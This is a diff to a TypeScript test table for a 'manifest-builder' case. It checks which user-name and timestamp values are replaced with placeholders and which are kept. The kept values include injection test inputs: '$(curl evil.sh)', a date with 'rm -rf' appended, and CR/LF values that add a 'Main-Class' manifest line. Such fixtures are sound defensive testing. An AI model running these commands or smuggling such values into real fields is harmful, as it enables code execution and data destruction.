@@ -204,6 +204,32 @@ const tables: Readonly<Record<string, { readonly removes: readonly Case[]; reado
       { field: 'tar.pax-name', bytes: 'evil' },
     ],
   },
+  'manifest-builder': {
+    removes: [
+      { field: 'manifest.user', value: 'root', left: '<user>' },
+      { field: 'manifest.user', value: 'CORP\\jane.doe', left: '<user>' },
+      ...each(['manifest.time'], { left: '<date>' }).flatMap(one =>
+        [
+          '2024-01-01',
+          '2024-01-01T10:00:00Z',
+          '2024-01-01 10:00:00 +0100',
+          '2024-01-01T10:00:00.123+01:00',
+          'Tue Nov 14 22:13:20 UTC 2023',
+          '20240101-1000',
+          '1700000000000',
+        ].map(value => ({ ...one, value })),
+      ),
+    ],
+    keeps: [
+      { field: 'manifest.user', value: 'Main-Class: Evil\rX' },
+      { field: 'manifest.user', value: '$(curl evil.sh)' },
+      { field: 'manifest.user', value: 'x'.repeat(65) },
+      { field: 'manifest.user', bytes: 'me\r\n and more' },
+      { field: 'manifest.time', value: 'yesterday' },
+      { field: 'manifest.time', value: '2024-01-01 rm -rf' },
+      { field: 'manifest.time', value: '' },
+    ],
+  },
   'zip-tool-flavour': {
     removes: [
       { field: 'zip.made-by', value: '788' },
